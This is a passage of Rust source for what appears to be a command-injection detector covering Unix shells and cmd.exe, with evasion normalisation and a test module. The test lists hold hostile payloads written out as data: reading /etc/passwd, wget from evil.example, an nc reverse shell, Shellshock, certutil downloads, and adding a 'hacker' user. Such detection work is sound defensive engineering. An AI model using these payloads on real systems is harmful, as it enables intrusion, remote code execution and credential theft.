            if let Some(eq) = seg.iter().position(|&c| c == b'=') {
                let name = &seg[..eq];
                if eq > 0
                    && name
                        .iter()
                        .all(|&c| is_word(c) || c == b'-' || c == b'.' || c == b'[' || c == b']')
                {
                    seg = trim(&seg[eq + 1..]);
                }
            }
            // `sudo cmd`, `A=b cmd`
            loop {
                let w_end = seg.iter().position(|&c| c == b' ').unwrap_or(seg.len());
                let w = &seg[..w_end];
                let is_prefix = w_end < seg.len()
                    && w.first()
                        .is_some_and(|&c| PREFIX_FIRST[usize::from(c)] != 0)
                    && PREFIXES.iter().any(|p| w.eq_ignore_ascii_case(p));
                let is_assign = flavor == Flavor::Unix
                    && w.iter()
                        .position(|&c| c == b'=')
                        .is_some_and(|e| e > 0 && w[..e].iter().all(|&c| is_word(c)))
                    && w_end < seg.len();
                if is_prefix || is_assign {
                    after_separator |= is_prefix;
                    seg = trim(&seg[w_end..]);
                } else {
                    break;
                }
            }
            if seg.is_empty() {
                continue;
            }
            let w_end = seg.iter().position(|&c| c == b' ').unwrap_or(seg.len());
            return Some(Segment {
                after_separator,
                in_substitution: sep_before == SUBST,
                loose,
                sep: sep_before,
                ended_by_separator: end < text.len() && !matches!(text[end], b')' | b'('),
                word: &seg[..w_end],
                args: &seg[w_end..],
            });
        }
        None
    })
}

/// The command name in `word`: its basename, and whether a binary directory named it.
fn command_name(word: &[u8], flavor: Flavor) -> (&[u8], bool) {
    let slash = |c: &u8| *c == b'/' || (flavor == Flavor::Windows && *c == b'\\');
    match word.iter().rposition(slash) {
        Some(p) => {
            let dir = &word[..=p];
            let in_bin = BIN_DIRS.iter().any(|d| {
                dir.len() >= d.len() && dir[dir.len() - d.len()..].eq_ignore_ascii_case(d)
            }) || (flavor == Flavor::Windows && windows_system_dir(dir));
            (&word[p + 1..], in_bin)
        }
        None => (word, false),
    }
}

/// Whether `dir` holds `\\system32\\`, `\\windows\\` or `/system32/` (ASCII case-insensitive).
fn windows_system_dir(dir: &[u8]) -> bool {
    let starts =
        |rest: &[u8], s: &[u8]| rest.len() >= s.len() && rest[..s.len()].eq_ignore_ascii_case(s);
    dir.iter().enumerate().any(|(p, &c)| {
        let rest = &dir[p + 1..];
        match c {
            b'\\' => starts(rest, b"system32\\") || starts(rest, b"windows\\"),
            b'/' => starts(rest, b"system32/"),
            _ => false,
        }
    })
}

/// Strips a version suffix: `python3.10` → `python3`, `php7.4` → `php`.
fn lookup(t: &Table, name: &[u8]) -> Option<Kind> {
    if let Some(k) = t.kind(name) {
        return Some(k);
    }
    let stem_len = name
        .iter()
        .rposition(|c| !(c.is_ascii_digit() || *c == b'.'))
        .map_or(0, |p| p + 1);
    if stem_len > 1 && stem_len < name.len() {
        let stem = &name[..stem_len];
        if let Some(k) = t.kind(stem) {
            return Some(k);
        }
        // `python3.10` → `python3`
        if let Some(k) = t.kind(&name[..stem_len + 1]) {
            return Some(k);
        }
    }
    None
}

fn judge(seg: &Segment<'_>, t: &Table, flavor: Flavor) -> Option<&'static str> {
    let (name, in_bin) = command_name(seg.word, flavor);
    // a Windows command keeps working with its extension
    let name = if flavor == Flavor::Windows
        && name.len() > 4
        && name[name.len() - 4..].eq_ignore_ascii_case(b".exe")
        && t.kind(name).is_none()
    {
        &name[..name.len() - 4]
    } else {
        name
    };
    let kind = lookup(t, name);
    // a Unix command that is an English word must be spelled as the shell needs it
    let kind = kind.filter(|&k| {
        !(flavor == Flavor::Unix && k == Weak && name.iter().any(u8::is_ascii_uppercase))
    });
    if in_bin
        && (kind.is_some()
            || (flavor == Flavor::Unix
                && name.len() >= 2
                && name
                    .iter()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || *c == b'-')))
    {
        return Some("shell:binary-path");
    }
    let kind = kind?;
    let args = trim(seg.args);
    let versioned =
        name.len() > 2 && name.last().is_some_and(u8::is_ascii_digit) && name.contains(&b'.');
    let mut shellish = shellish_args(args, flavor) || versioned;
    if name.eq_ignore_ascii_case(b"alias") {
        // `alias x=curl`: defining a command
        let a = args
            .split(|&c| c == b' ')
            .find(|w| !w.starts_with(b"-") && !w.starts_with(b"+"));
        shellish |= a.is_some_and(|w| w.iter().position(|&c| c == b'=').is_some_and(|e| e > 0));
    }
    if flavor == Flavor::Windows
        && (name.eq_ignore_ascii_case(b"net") || name.eq_ignore_ascii_case(b"net1"))
    {
        let sub = args.split(|&c| c == b' ').next().unwrap_or(b"");
        shellish |= NET_SUBCOMMANDS.iter().any(|s| sub.eq_ignore_ascii_case(s));
    }
    if seg.in_substitution {
        return Some("shell:command-substitution");
    }
    if seg.after_separator {
        let hit = match kind {
            Strong => true,
            Weak => shellish && !(seg.loose && args.is_empty()),
            // `(id)` in prose or SQL is not `;id`
            Short => {
                shellish
                    && (!args.is_empty()
                        || matches!(seg.sep, b';' | b'|' | b'&' | b'\n') && !seg.loose)
            }
        };
        return hit.then_some("shell:command-after-separator");
    }
    // the start of the value: a command with the arguments of one, or ending at a separator
    let alone = ALONE.iter().any(|a| name.eq_ignore_ascii_case(a));
    let hit = match kind {
        Strong => {
            (args.is_empty() && (seg.ended_by_separator || alone))
                || (!args.is_empty()
                    && !args[0].is_ascii_digit()
                    && (shellish
                        || (FILE_TOOLS.contains(&name) && args.split(|&c| c == b' ').count() >= 2)))
        }
        Weak | Short => !args.is_empty() && shellish && !matches!(args.first(), Some(b'0'..=b'9')),
    };
    hit.then_some("shell:command")
}

/// Unix command injection.
pub(crate) fn detect_unix(input: &[u8]) -> Option<Detection> {
    detect_flavor(input, Flavor::Unix)
}

/// cmd.exe command injection.
pub(crate) fn detect_windows(input: &[u8]) -> Option<Detection> {
    detect_flavor(input, Flavor::Windows)
}

fn detect_flavor(input: &[u8], flavor: Flavor) -> Option<Detection> {
    if input.len() < 2 {
        return None;
    }
    let t: &Table = match flavor {
        Flavor::Unix => &UNIX,
        Flavor::Windows => &WINDOWS,
    };
    if flavor == Flavor::Windows
        && let Some(d) = windows_specials(input)
    {
        return Some(d);
    }
    let c = classes(
        input,
        match flavor {
            Flavor::Unix => &UNIX_BYTES,
            Flavor::Windows => &WINDOWS_BYTES,
        },
    );
    let has_interesting = c & INTERESTING != 0;
    if !has_interesting && !first_word_is_command(input, t, flavor) && !input.contains(&b'/') {
        return None;
    }
    if flavor == Flavor::Unix
        && let Some(d) = unix_specials(input)
    {
        return Some(d);
    }
    // nothing that names a command, and nothing that could splice one together: only the
    // wildcard paths remain to check
    let splice = c & SPLICE != 0;
    let bin = memchr::memchr_iter(b'/', input).any(|p| p >= 3 && &input[p - 3..p] == b"bin");
    if !splice && !bin && !t.mentions_command(input) {
        return if flavor == Flavor::Unix {
            glob_path(input)
        } else {
            None
        };
    }
    if !has_interesting && c & REWRITTEN == 0 {
        // Rewriting would give the value back unchanged, with no `${IFS}` and nothing
        // spliced, and the wildcard path needs an interesting byte: only the segments are
        // left to judge, on the value itself.
        return judge_segments(input, t, flavor);
    }
    let r = rewrite(input, flavor);
    if r.ifs {
        return Some(found("shell:ifs", input));
    }
    if let Some(d) = judge_segments(&r.out, t, flavor) {
        return Some(d);
    }
    if flavor == Flavor::Unix {
        if r.spliced && r.out.contains(&b'/') && lfi::sensitive_file(&r.out).is_some() {
            return Some(found("shell:spliced-path", &r.out));
        }
        if let Some(d) = glob_path(&r.out) {
            return Some(d);
        }
    }
    None
}

/// The first segment of rewritten `text` whose command is an attack.
fn judge_segments(text: &[u8], t: &Table, flavor: Flavor) -> Option<Detection> {
    for seg in segments(text, flavor) {
        if let Some(reason) = judge(&seg, t, flavor) {
            let mut ev = seg.word.to_vec();
            ev.extend_from_slice(&seg.args[..seg.args.len().min(40)]);
            return Some(found(reason, &ev));
        }
    }
    None
}

/// Whether the first word of `input` names a command (Unix's when `unix`, else cmd.exe's):
/// without it, a value with no separator, evasion byte or `/` is no injection.
pub(super) fn first_word_names_command(input: &[u8], unix: bool) -> bool {
    if unix {
        first_word_is_command(input, &UNIX, Flavor::Unix)
    } else {
        first_word_is_command(input, &WINDOWS, Flavor::Windows)
    }
}

fn first_word_is_command(input: &[u8], t: &Table, flavor: Flavor) -> bool {
    let s = trim(input);
    let end = s.iter().position(|&c| c == b' ').unwrap_or(s.len());
    let (name, _) = command_name(&s[..end], flavor);
    lookup(t, name).is_some()
}

/// Shellshock, substitutions and variables, read on the raw value.
fn unix_specials(input: &[u8]) -> Option<Detection> {
    let s = trim(input);
    // `>/tmp/x`, `>> /dev/tcp/…`: redirecting output into a system directory
    for i in memchr::memchr_iter(b'>', input) {
        let mut j = i + 1;
        if input.get(j) == Some(&b'>') {
            j += 1;
        }
        while input.get(j) == Some(&b' ') {
            j += 1;
        }
        const DIRS: &[&[u8]] = &[
            b"/tmp/", b"/dev/", b"/var/", b"/etc/", b"/root/", b"/home/", b"/usr/", b"/bin/",
            b"/proc/",
        ];
        if DIRS.iter().any(|d| input[j..].starts_with(d))
            && (i == 0 || !is_word(input[i - 1]) || input[i - 1].is_ascii_digit())
        {
            return Some(found("shell:redirect", &input[i..input.len().min(i + 32)]));
        }
    }
    if s.starts_with(b"() {") || s.starts_with(b"(){") {
        return Some(found("shell:function-definition", s));
    }
    // `~+`, `~-2`: the shell's directory-stack expansions, as a whole value
    if let [b'~', b'+' | b'-', rest @ ..] = s
        && (rest.iter().all(u8::is_ascii_digit) || rest.first() == Some(&b'/'))
    {
        return Some(found("shell:tilde-expansion", s));
    }
    // `\ls`: a backslash that skips aliases, before a command
    if let Some(rest) = s.strip_prefix(b"\\") {
        let w = rest
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count();
        if w >= 2 && rest.get(w).is_none_or(|&c| c == b' ') && lookup(&UNIX, &rest[..w]).is_some() {
            return Some(found("shell:escaped-command", s));
        }
    }
    if let Some(d) = brace_expansion(input).or_else(|| history_or_arithmetic(input)) {
        return Some(d);
    }
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'$', &input[i..]) {
        let at = i + p;
        let rest = &input[at + 1..];
        // `${VAR}` / `$VAR` with a revealing variable
        let (name, braced) = match rest.first() {
            Some(b'{') => (&rest[1..], true),
            _ => (rest, false),
        };
        let len = name
            .iter()
            .take_while(|&&c| c.is_ascii_uppercase() || c == b'_' || c.is_ascii_digit())
            .count();
        if len >= 2 {
            let var = &name[..len];
            let closed = !braced || name.get(len) == Some(&b'}');
            let glued_after = !braced && name.get(len).is_some_and(|&c| c.is_ascii_lowercase());
            if closed && !glued_after && UNIX_VARIABLES.contains(&var) {
                return Some(found(
                    "shell:variable",
                    &input[at..(at + 2 + len).min(input.len())],
                ));
            }
        }
        i = at + 1;
    }
    None
}

/// `c{a,oun}t`, `{l,-lh}s`, `{,ip,a}`: brace expansion glued to a word, or with an empty or
/// option item: the shell builds a command from pieces.
fn brace_expansion(input: &[u8]) -> Option<Detection> {
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'{', &input[i..]) {
        let open = i + p;
        i = open + 1;
        let Some(len) = input[open + 1..].iter().take(64).position(|&c| c == b'}') else {
            continue;
        };
        let inner = &input[open + 1..open + 1 + len];
        if !inner.contains(&b',')
            || inner
                .iter()
                .any(|&c| matches!(c, b' ' | b'"' | b':' | b'\'' | b'{'))
        {
            continue;
        }
        let glued = (open > 0 && input[open - 1].is_ascii_alphabetic())
            || input
                .get(open + 2 + len)
                .is_some_and(u8::is_ascii_alphabetic);
        let odd_item = inner
            .split(|&c| c == b',')
            .any(|item| item.is_empty() || item.starts_with(b"-"));
        let letters = inner
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b',' | b'-' | b'/' | b'.'));
        if letters && (glued || odd_item) {
            return Some(found(
                "shell:brace-expansion",
                &input[open.saturating_sub(8)..input.len().min(open + len + 10)],
            ));
        }
    }
    None
}

/// `!-1` (history), `$[2+2]` (old arithmetic), `${PATH:0:1}` / `${x#…}` (parameter operators).
fn history_or_arithmetic(input: &[u8]) -> Option<Detection> {
    for i in memchr::memchr_iter(b'!', input) {
        let w = &input[i..input.len().min(i + 3)];
        if w.len() < 3 {
            break;
        }
        if w[0] == b'!'
            && w[1] == b'-'
            && w[2].is_ascii_digit()
            && (i == 0 || !input[i - 1].is_ascii_alphanumeric())
        {
            return Some(found(
                "shell:history-expansion",
                &input[i..input.len().min(i + 16)],
            ));
        }
    }
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'$', &input[i..]) {
        let d = i + p;
        i = d + 1;
        match input.get(d + 1) {
            Some(b'[') => {
                let close = input[d + 2..].iter().take(32).position(|&c| c == b']');
                if close.is_some_and(|c| {
                    input[d + 2..d + 2 + c]
                        .iter()
                        .all(|&x| x.is_ascii_digit() || b"+-*/%() ".contains(&x))
                }) {
                    return Some(found(
                        "shell:arithmetic",
                        &input[d..input.len().min(d + 16)],
                    ));
                }
            }
            Some(b'{') => {
                let name = input[d + 2..].iter().take_while(|&&c| is_word(c)).count();
                let op = input.get(d + 2 + name).copied();
                let next = input.get(d + 3 + name).copied();
                let param_op = match op {
                    Some(b'#' | b'%' | b'/' | b'^' | b',') => name > 0,
                    Some(b':') => next.is_some_and(|c| {
                        c.is_ascii_digit() || matches!(c, b'-' | b'+' | b'=' | b'?' | b' ')
                    }),
                    _ => false,
                };
                if param_op {
                    return Some(found(
                        "shell:parameter-expansion",
                        &input[d..input.len().min(d + 24)],
                    ));
                }
            }
            _ => {}
        }
    }
    None
}

/// `for /f "…" %a in (…) do …`: cmd.exe's loop, with any switches and options.
fn windows_for_loop(input: &[u8]) -> Option<Detection> {
    let mut i = 0;
    while i + 3 < input.len() {
        let p = input[i..]
            .windows(3)
            .position(|w| w.eq_ignore_ascii_case(b"for"))?;
        let start = i + p;
        i = start + 3;
        if start > 0 && is_word(input[start - 1]) {
            continue;
        }
        let mut j = start + 3;
        if !input.get(j).is_some_and(|c| c.is_ascii_whitespace()) {
            continue;
        }
        // switches and quoted options
        loop {
            j = super::util::skip_ws(input, j);
            match input.get(j) {
                Some(b'/') => j += 2,
                Some(b'"') => {
                    j = input[j + 1..]
                        .iter()
                        .take(128)
                        .position(|&c| c == b'"')
                        .map_or(input.len(), |q| j + q + 2);
                }
                Some(c) if c.is_ascii_alphabetic() && input.get(j + 1) == Some(&b':') => {
                    // a root for /r: `c:\x`
                    j += input[j..]
                        .iter()
                        .take_while(|c| !c.is_ascii_whitespace())
                        .count();
                }
                _ => break,
            }
        }
        if input.get(j) != Some(&b'%') {
            continue;
        }
        j += 1;
        if input.get(j) == Some(&b'%') {
            j += 1;
        }
        // the loop variable: one character, or a name
        let name = input[j..].iter().take_while(|&&c| is_word(c)).count();
        j += name.max(usize::from(
            input.get(j).is_some_and(|c| !c.is_ascii_whitespace()),
        ));
        let k = super::util::skip_ws(input, j);
        if k == j
            || !input
                .get(k..k + 2)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"in"))
        {
            continue;
        }
        let k = super::util::skip_ws(input, k + 2);
        if input.get(k) != Some(&b'(') {
            continue;
        }
        let Some(close) = input[k..].iter().position(|&c| c == b')') else {
            continue;
        };
        let m = super::util::skip_ws(input, k + close + 1);
        if input
            .get(m..m + 2)
            .is_some_and(|w| w.eq_ignore_ascii_case(b"do"))
        {
            return Some(found(
                "shell:windows-for-loop",
                &input[start..input.len().min(m + 16)],
            ));
        }
    }
    None
}

/// `if [/i] [not] exist|defined|errorlevel …`, `if a==b …`, `if a equ b …`: cmd.exe's
/// conditional, at the start of the value or after a separator.
fn windows_if(input: &[u8]) -> Option<Detection> {
    const KEYWORDS: &[&[u8]] = &[b"exist", b"defined", b"errorlevel", b"cmdextversion"];
    const COMPARE: &[&[u8]] = &[b"equ", b"neq", b"lss", b"leq", b"gtr", b"geq"];
    let mut i = 0;
    while let Some(p) = memchr::memchr2_iter(b'i', b'I', &input[i..]).find(|&p| {
        matches!(at(&input[i..], p + 1), b'f' | b'F')
            && matches!(at(&input[i..], p + 2), b' ' | b'\t' | b'(' | b'"')
    }) {
        let start = i + p;
        i = start + 2;
        // what precedes, skipping spaces backwards (not the whole prefix: no quadratic scans)
        let prev = input[..start]
            .iter()
            .rev()
            .find(|&&c| c != b' ' && c != b'\t');
        if !matches!(prev, None | Some(b'&' | b'|' | b';' | b'(' | b'\n')) {
            continue;
        }
        let rest = &input[start + 2..input.len().min(start + 120)];
        let words: Vec<&[u8]> = rest
            .split(|c| c.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .collect();
        let mut k = 0;
        while k < words.len()
            && (words[k].eq_ignore_ascii_case(b"/i") || words[k].eq_ignore_ascii_case(b"not"))
        {
            k += 1;
        }
        let keyword = words
            .get(k)
            .is_some_and(|w| KEYWORDS.iter().any(|x| w.eq_ignore_ascii_case(x)));
        let compare = rest.windows(2).any(|w| w == b"==")
            || words.iter().take(6).any(|w| {
                COMPARE
                    .iter()
                    .any(|x| w.trim_ascii_start().eq_ignore_ascii_case(x))
                    || {
                        let w = w.strip_prefix(b"(").unwrap_or(w);
                        COMPARE.iter().any(|x| w.eq_ignore_ascii_case(x))
                    }
            });
        if keyword && words.len() > k + 1 || compare && words.len() >= 3 {
            return Some(found(
                "shell:windows-if",
                &input[start..input.len().min(start + 48)],
            ));
        }
    }
    None
}

fn windows_specials(input: &[u8]) -> Option<Detection> {
    // a `for` loop's variable and the variables below need `%`
    let percent = memchr::memchr(b'%', input).is_some();
    if percent && let Some(d) = windows_for_loop(input) {
        return Some(d);
    }
    if let Some(d) = windows_if(input) {
        return Some(d);
    }
    if !percent {
        return None;
    }
    // `%COMSPEC%` and friends
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'%', &input[i..]) {
        let at = i + p;
        let rest = &input[at + 1..];
        let len = rest
            .iter()
            .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_')
            .count();
        if len >= 4 {
            let name = &rest[..len];
            let next = rest.get(len).copied();
            // `%comspec%`, and the substring form `%comspec:~0,1%`
            if matches!(next, Some(b'%' | b':'))
                && WINDOWS_VARIABLES
                    .iter()
                    .any(|v| name.eq_ignore_ascii_case(v))
            {
                return Some(found(
                    "shell:windows-variable",
                    &input[at..(at + 2 + len).min(input.len())],
                ));
            }
        }
        i = at + 1;
    }
    None
}

/// A path whose components are wildcards aimed at a well-known binary or file.
fn glob_path(text: &[u8]) -> Option<Detection> {
    // every token that counts has a wildcard
    memchr::memchr3(b'?', b'*', b'[', text)?;
    let mut i = 0;
    while i < text.len() {
        if text[i] != b'/'
            || (i > 0 && !matches!(text[i - 1], b' ' | b';' | b'|' | b'&' | b'=' | b'`' | b'('))
        {
            i += 1;
            continue;
        }
        let end = text[i..]
            .iter()
            .position(|&c| matches!(c, b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'\n'))
            .map_or(text.len(), |p| i + p);
        let token = &text[i..end];
        // the targets are short: a long token or many stars cannot match, and would make the
        // matcher's backtracking expensive
        let stars = token.iter().filter(|&&c| c == b'*').count();
        if token.len() <= 64
            && stars <= 2
            && token.iter().any(|&c| matches!(c, b'?' | b'*' | b'['))
            && GLOB_TARGETS.iter().any(|t| glob_match(token, t, 0))
        {
            return Some(found("shell:wildcard-path", token));
        }
        i = end;
    }
    None
}

/// Shell globbing (`?`, `*`, `[…]`) of `pat` against `target`; depth-bounded.
fn glob_match(pat: &[u8], target: &[u8], depth: u32) -> bool {
    if depth > 16 {
        return false;
    }
    let (mut p, mut t) = (0usize, 0usize);
    while p < pat.len() {
        match pat[p] {
            b'*' => {
                // `*` does not cross `/`
                let rest = &pat[p + 1..];
                let mut k = t;
                loop {
                    if glob_match(rest, &target[k..], depth + 1) {
                        return true;
                    }
                    if k >= target.len() || target[k] == b'/' {
                        return false;
                    }
                    k += 1;
                }
            }
            b'?' => {
                if t >= target.len() || target[t] == b'/' {
                    return false;
                }
            }
            b'[' => {
                let Some(close) = pat[p + 1..].iter().position(|&c| c == b']') else {
                    return false;
                };
                let class = &pat[p + 1..p + 1 + close];
                let Some(&c) = target.get(t) else {
                    return false;
                };
                let (neg, class) = match class.first() {
                    Some(b'!' | b'^') => (true, &class[1..]),
                    _ => (false, class),
                };
                let mut inside = false;
                let mut k = 0;
                while k < class.len() {
                    if k + 2 < class.len() && class[k + 1] == b'-' {
                        inside |= (class[k]..=class[k + 2]).contains(&c);
                        k += 3;
                    } else {
                        inside |= class[k] == c;
                        k += 1;
                    }
                }
                if inside == neg {
                    return false;
                }
                p += close + 2;
                t += 1;
                continue;
            }
            c => {
                if target.get(t) != Some(&c) {
                    return false;
                }
            }
        }
        p += 1;
        t += 1;
    }
    t == target.len()
}

#[cfg(test)]
mod tests {
    use super::{detect_unix, detect_windows};

    fn unix(s: &str) -> bool {
        detect_unix(s.as_bytes()).is_some()
    }
    fn win(s: &str) -> bool {
        detect_windows(s.as_bytes()).is_some()
    }

    #[test]
    fn unix_attacks() {
        for s in [
            ";id",
            "|id",
            "; cat /etc/passwd",
            "127.0.0.1; ls -la",
            "x && wget http://evil.example/x.sh",
            "a|nc -e /bin/sh 10.0.0.1 4444",
            "`whoami`",
            "$(uname -a)",
            "echo${IFS}crs312",
            "cat$IFS/etc/passwd",
            "c'a't /etc/passwd",
            "c\\at /etc/passwd",
            "www.google.com;c$@at+/et$@c/pas$@swd",
            "; /???/??t /???/p??s??",
            "host=x;/bin/ca?+/et*/passwd",
            "{cat,/etc/passwd}",
            "() { :; }; /bin/bash -c id",
            "echo $HOME",
            "${PATH}",
            "/usr/bin/perl -e 'print 1'",
            "ls -l /etc/passwd",
            "bash -c \"echo test\"",
            "|| ping -c 10 127.0.0.1",
            "; sleep 5",
            "\nwhoami",
            "python3.10 -c 'import os'",
            "cat</etc/passwd",
            "uname$u -a",
            "x;cu$@rl google.com",
        ] {
            assert!(unix(s), "{s}");
        }
    }

    #[test]
    fn unix_benign() {
        for s in [
            "cat & dog",
            "ping me; thanks",
            "Tom & Jerry",
            "rock | roll",
            "salt & pepper; find the best",
            "Some text (in brackets).",
            "time is of the essence",
            "ping pong tables",
            "The zip on my coat is stuck",
            "tar is a dark brown liquid",
            "kills foo bar",
            "show_comments_cookies_opt_in=true",
            "it's a nice day, isn't it?",
            "Price: $5 - $10",
            "R&D; Q&A",
            "Find us at 10 Main St.",
            "What's up? (see the FAQ)",
            "dont match commands that are not fully qualified like bash python and perl.",
            "1/2/2024",
            "He said \"hello\" and left",
            "cats & dogs | sleep well",
            "HELLO; CAT",
        ] {
            assert!(!unix(s), "{s}");
        }
    }

    #[test]
    fn windows_attacks() {
        for s in [
            "& dir c:\\",
            "| net user",
            "||nslookup evil.example",
            ";cmd /c whoami",
            "& ipconfig /all",
            "x|type c:\\windows\\win.ini",
            "n^e^t user hacker /add",
            "& c\"m\"d /c ver",
            "%COMSPEC% /c dir",
            "& certutil -urlcache -f http://x/a.exe a.exe",
            "&& systeminfo",
            "| powershell -nop -c calc",
            "cmd.exe /k whoami",
            "& ping -n 10 127.0.0.1",
            "%comspec:~0,1%",
            "C:\\Windows\\System32\\cmd.exe /c dir",
            "for /l %variable in (1,1,2) do command",
            "& FOR /F \"tokens=1-3\" %A IN (\"x y\") DO @echo pwnd",
            "IF EXIST C:\\pagefile.sys CMD",
            "IF /I NOT item1==item2 CMD",
            "if %n1% gtr %n2% echo greater",
        ] {
            assert!(win(s), "{s}");
        }
    }

    #[test]
    fn windows_benign() {
        for s in [
            "Save it in C:\\Users\\me\\Documents",
            "cat & dog",
            "set the table & start dinner",
            "Type your name | Start here",
            "50% off & free shipping",
            "100% cotton",
            "Q&A session (call us)",
            "start the engine",
            "net income was up",
            "echo chamber",
            "if you can, call me",
            "If not defined, leave it blank",
            "for all of us in (the) world do good",
            "What if a == b?",
        ] {
            assert!(!win(s), "{s}");
        }
    }
}
